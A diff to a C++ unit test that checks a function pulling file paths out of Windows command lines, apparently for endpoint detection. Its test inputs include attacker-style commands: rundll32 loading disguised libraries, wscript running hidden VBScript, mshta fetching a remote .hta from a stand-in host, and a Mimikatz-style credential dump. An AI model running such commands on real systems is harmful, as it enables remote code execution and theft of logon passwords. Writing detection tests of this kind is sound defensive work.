@@ -38,6 +38,12 @@ TEST(HostStatePaths, AHostOfOtherCodeLeadsToWhatItRuns)
         ElementsAre("rundll32.exe", R"(\users\public\a.dll)"));
     EXPECT_THAT(files_of_command(R"(C:\Windows\System32\cmd.exe /c "C:\TMP\x.bat")"),
         ElementsAre(R"(\windows\system32\cmd.exe)", R"(\tmp\x.bat)"));
+    EXPECT_THAT(files_of_command(R"(rundll32.exe "C:\Users\a\AppData\Local\Microsoft\crdss.wll",#1)"),
+        ElementsAre("rundll32.exe", R"(\users\a\appdata\local\microsoft\crdss.wll)"))
+        << "a library has any extension";
+    EXPECT_THAT(files_of_command(R"(wscript.exe C:\Users\Public\Pictures\x.fly //e:VBScript //b)"),
+        ElementsAre("wscript.exe", R"(\users\public\pictures\x.fly)"));
+    EXPECT_THAT(files_of_command(R"(rundll32.exe shell32,Control_RunDLL)"), ElementsAre("rundll32.exe"));
     EXPECT_THAT(files_of_command("mshta.exe http://a.example/x.hta"), ElementsAre("mshta.exe")) << "no file of a disk";
     EXPECT_THAT(
         files_of_command(R"(C:\TMP\mim.exe sekurlsa::LogonPasswords > C:\TMP\o.exe)"), ElementsAre(R"(\tmp\mim.exe)"));
